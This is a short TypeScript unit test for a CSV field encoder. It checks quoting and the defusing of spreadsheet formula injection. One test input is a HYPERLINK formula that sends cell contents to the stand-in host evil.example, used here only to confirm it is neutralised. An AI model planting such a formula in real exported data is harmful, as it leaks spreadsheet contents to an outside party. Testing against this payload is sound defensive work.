import { test } from 'vitest'
import assert from 'node:assert/strict'
import { csvField } from './csv-field.ts'

test('a CSV field quotes what needs quoting and defuses text a spreadsheet would run as a formula', () => {
  assert.equal(csvField('plain'), 'plain')
  assert.equal(csvField('a,b'), '"a,b"')
  assert.equal(csvField('say "hi"'), '"say ""hi"""')
  assert.equal(csvField('=HYPERLINK("https://evil.example/?"&A2,"open")'), '"\'=HYPERLINK(""https://evil.example/?""&A2,""open"")"')
  for (const lead of ['=', '+', '-', '@', '\t']) assert.equal(csvField(`${lead}1+1`), `'${lead}1+1`)
  assert.equal(csvField('\r1'), '"\'\r1"')
  assert.equal(csvField(-2.5), '-2.5', 'numbers are numbers')
  assert.equal(csvField(null), '')
  assert.equal(csvField(undefined), '')
  assert.equal(csvField('+AbC/9==', { verbatim: true }), '+AbC/9==', 'a base64 signature keeps its bytes')
  assert.equal(csvField('{"a":1,"b":2}', { verbatim: true }), '"{""a"":1,""b"":2}"', 'and is still quoted')
})
